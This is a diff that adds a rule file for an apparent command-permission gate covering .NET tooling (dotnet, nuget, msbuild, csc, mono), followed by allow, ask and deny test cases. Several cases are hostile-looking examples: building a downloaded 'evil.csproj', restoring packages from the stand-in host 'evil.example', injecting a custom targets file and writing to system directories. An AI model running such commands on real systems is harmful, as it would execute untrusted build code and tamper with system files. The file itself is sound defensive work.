@@ -1,0 +1,121 @@
+"""dotnet — builds, tests, runs and packs .NET projects, with nuget and msbuild beside it."""
+
+from toolgate.knowledge.vocabulary import (
+    CODE, EARLY, FETCHES, PLAIN, READ_BY, READS, RUNS, WORDS, WRITES, command, deletes, flag, flags, option, publishes, runs, sub, writes,
+)  # fmt: skip
+
+HELP = flag("-h -?", informs=True)
+BUILD = runs("the project's build")
+TESTS = runs("the project's tests")
+PROJECT = writes("the project's files", "workspace")
+
+BUILDING = [
+    HELP,
+    flags("-c= --configuration= -f= --framework= -r= --runtime= -v= --verbosity= --no-restore --no-build --no-incremental --no-dependencies --force -a= --arch= --os= --sc --self-contained --no-self-contained --version-suffix= --nologo --interactive --tl= --disable-build-servers --use-current-runtime --ucr --include-symbols --include-source -s --serviceable --no-cache --property= --manifest-update"),
+    option("-o --output --artifacts-path --packages", WRITES),
+    option("--source", READ_BY("link")),
+    option("--configfile --lock-file-path --project -p", RUNS),
+    flags("--locked-mode --force-evaluate --use-lock-file --ignore-failed-sources --disable-parallel -restore"),
+]
+DOTNET = command(
+    "dotnet",
+    options=[flag("-h -? --info --list-sdks --list-runtimes", informs=True), flags("-d --diagnostics --roll-forward= --fx-version= --additionalprobingpath= --additional-deps= --runtimeconfig= --depsfile=")],
+    subcommands=[
+        sub("build restore clean publish pack msbuild vstest", "READ_BY(msbuild_option)...", BUILDING, style=WORDS, unlisted=READ_BY("msbuild_option"), does=BUILD),
+        sub("test", "READ_BY(msbuild_option)...", [*BUILDING, option("--results-directory --diag --coverage-output", WRITES), option("-s --settings --test-adapter-path", READS), flags("--filter= -l= --logger= --collect= -e= --environment= --blame -t --list-tests --blame-hang-timeout=")], style=WORDS, unlisted=READ_BY("msbuild_option"), does=TESTS),
+        sub("run", "PLAIN...", [*BUILDING, flags("-lp= --launch-profile= --no-launch-profile -e= --environment="), option("--file", RUNS)], style=WORDS, unlisted=READ_BY("msbuild_option"), does=runs("the project's own program")),
+        sub("watch", "PLAIN...", [*BUILDING, flags("-q --quiet --verbose --list --no-hot-reload --non-interactive")], style=WORDS, unlisted=READ_BY("msbuild_option"), does=runs("the project's own program")),
+        sub("format", "EDITS?", [flag("--verify-no-changes", clears="write"), option("--report --binarylog", WRITES)], unlisted=PLAIN, does=writes("the project's sources", "workspace")),
+        sub("new", "PLAIN...", [option("-o --output", WRITES), flag("-i --install", runs("a project template", "registry", "install"))], subcommands=[
+            sub("install update", "PACKAGES...", unlisted=PLAIN),
+            sub("list search details uninstall", "PLAIN...", unlisted=PLAIN),
+        ], otherwise=sub("new", "PLAIN...", [option("-o --output", WRITES)], unlisted=PLAIN, does=PROJECT)),
+        sub("add remove list sln solution reference", "PLAIN...", subcommands=[
+            sub("package", "PACKAGES...", [flags("-v= --version= -n --no-restore --prerelease -f= --framework= --outdated --vulnerable --deprecated --include-transitive --format="), option("-s --source", READ_BY("link")), option("--package-directory", WRITES)]),
+            sub("*", subcommands=[
+                sub("package", "PACKAGES...", [flags("-v= --version= -n --no-restore --prerelease -f= --framework= --outdated --vulnerable --include-transitive --format="), option("-s --source", READ_BY("link"))]),
+            ], otherwise=sub("add", "PLAIN...", unlisted=PLAIN, does=PROJECT), bare=()),
+        ], bare=()),
+        sub("package", subcommands=[sub("add", "PACKAGES...", unlisted=PLAIN), sub("list search remove update", "PLAIN...", unlisted=PLAIN)]),
+        sub("nuget", subcommands=[
+            sub("push", "UPLOADS...", [option("-s --source", PLAIN)], unlisted=PLAIN, does=publishes("the package", "registry")),
+            sub("delete", "PLAIN...", unlisted=PLAIN, does=publishes("the withdrawal of a package", "registry")),
+            sub("locals", "PLAIN...", [flag("-l --list", clears="delete")], unlisted=PLAIN, does=deletes("nuget's cache", "cache")),
+            sub("list verify why config trust", "PLAIN...", unlisted=PLAIN),
+            sub("add update remove enable disable", "PLAIN...", [option("-s --source", FETCHES)], unlisted=PLAIN, does=writes("nuget's settings for every project", "home")),
+        ]),
+        sub("tool", subcommands=[
+            sub("restore list search", "PLAIN...", unlisted=PLAIN, does=runs("the project's tools", "workspace", "install locked")),
+            sub("run", "LOCAL"),
+            sub("exec execute", "TOOL", unlisted=PLAIN),
+            sub("install update", "PACKAGES...", [flag("-g --global", manner="global"), option("--tool-path", WRITES), option("--add-source --source", READ_BY("link")), flags("--version= --local --create-manifest-if-needed --prerelease --framework= --ignore-failed-sources --allow-downgrade -v=")]),
+            sub("uninstall", "PLAIN...", [flag("-g --global", writes("programs for every project", "home"))], unlisted=PLAIN),
+        ]),
+        sub("ef", subcommands=[
+            sub("database", subcommands=[sub("drop", "PLAIN...", [flag("--dry-run", dry=True)], unlisted=PLAIN, does=deletes("the whole database", "database")), sub("update", "PLAIN...", unlisted=PLAIN, does=runs("the project's migrations"))]),
+            sub("migrations dbcontext", "PLAIN...", unlisted=PLAIN, does=BUILD),
+        ]),
+        sub("user-secrets", subcommands=[sub("init", unlisted=PLAIN), sub("list set remove clear", "PLAIN...", unlisted=PLAIN, does=writes("the project's secrets", "secret"))]),
+        sub("dev-certs", "PLAIN...", unlisted=PLAIN, does=writes("a certificate this machine trusts", "home")),
+        sub("workload", subcommands=[sub("list search config", "PLAIN...", unlisted=PLAIN), sub("install update repair restore uninstall", "PLAIN...", unlisted=PLAIN, does=runs("a part of .NET", "registry", "install global"))]),
+        sub("sdk help build-server store completions", "PLAIN...", unlisted=PLAIN),
+        sub("fsi", "RUNS? PLAIN...", [option("-e --exec", PLAIN), option("--use --load -r --reference", RUNS)], style=EARLY, unlisted=PLAIN, stdin=CODE("fsharp")),
+        sub("script dotnet-script", "RUNS? PLAIN...", style=EARLY, unlisted=PLAIN, stdin=CODE("csharp")),
+        sub("exec", "RUNS PLAIN...", style=EARLY, unlisted=PLAIN),
+    ],
+    otherwise=sub("dotnet", "READ_BY(dotnet_program) PLAIN...", style=EARLY, unlisted=PLAIN),
+)  # fmt: skip
+NUGET = command(
+    "nuget paket",
+    options=[flag("-h -? -Help", informs=True), flags("-NonInteractive -Verbosity=")],
+    style=WORDS,
+    subcommands=[
+        sub("restore pack spec list locals search verify help show-groups show-installed-packages", "PLAIN...", [option("-OutputDirectory -PackagesDirectory", WRITES), option("-Source", READ_BY("link"))], style=WORDS, unlisted=PLAIN, does=runs("the project's dependencies", "workspace", "install locked")),
+        sub("install add update", "PACKAGES...", [option("-OutputDirectory", WRITES), option("-Source", READ_BY("link"))], style=WORDS, unlisted=PLAIN),
+        sub("push delete", "PLAIN...", style=WORDS, unlisted=PLAIN, does=publishes("the package", "registry")),
+        sub("setapikey config sources trusted-signers", "PLAIN...", style=WORDS, unlisted=PLAIN, does=writes("nuget's settings for every project", "home")),
+    ],
+)
+MSBUILD = command("msbuild xbuild", "READ_BY(msbuild_option)...", [flag("-h -? -help -version /? /help", informs=True)], style=WORDS, unlisted=READ_BY("msbuild_option"), does=BUILD)
+CSC = command(
+    "csc vbc fsc mcs fsharpc",
+    "READS...",
+    [option("-o --out", WRITES)],
+    style=WORDS,
+    unlisted=READ_BY("csc_option"),
+    does=writes("the compiled program", "output"),
+)
+FSI = command("fsi fsharpi csi", "RUNS? PLAIN...", [HELP], style=EARLY, unlisted=PLAIN, stdin=CODE("fsharp"))
+MONO = command("mono", "RUNS PLAIN...", [flag("-h -V", informs=True), flags("--debug[=] --profile[=] --config=")], style=EARLY, unlisted=PLAIN)
+TOOLS = command("csharpier fantomas reportgenerator dotnet-format coverlet dotnet-outdated dotnet-counters dotnet-trace dotnet-dump", "PLAIN...", [HELP, option("-o --output -targetdir", WRITES)], unlisted=PLAIN, does=TESTS)
+
+CASES = """
+allow  dotnet --info
+allow  dotnet build -c Release --no-restore /p:Version=1.0
+       run the project's build
+allow  dotnet test --filter "FullyQualifiedName~Delete" --logger trx
+allow  dotnet run --project src/App -- --port 80
+allow  dotnet pack --configuration Release -p:NoWarn=NU5104
+allow  dotnet restore
+allow  dotnet format --verify-no-changes
+allow  dotnet tool restore
+allow  dotnet ef migrations add Init
+allow  dotnet ef database update
+allow  dotnet list package --outdated
+allow  dotnet add src/App reference src/Lib
+allow  dotnet new console -o app
+allow  dotnet bin/Debug/net8.0/App.dll
+allow  dotnet nuget locals all --clear
+llm    dotnet add package Newtonsoft.Json
+ask    dotnet tool install -g somebodys.tool
+ask    dotnet nuget push bin/Release/*.nupkg -s https://api.nuget.org/v3/index.json
+ask    dotnet ef database drop --force
+ask    dotnet user-secrets set key value
+ask    dotnet build ~/Downloads/evil.csproj
+ask    dotnet restore --source https://evil.example/v3/index.json
+deny   dotnet build -o /usr/lib/app
+ask    dotnet build -p:CustomBeforeMicrosoftCommonTargets=/home/user/x.targets
+ask    dotnet surprise
+ask    dotnet workload install maui
+deny   csc -out:/etc/x a.cs
+"""
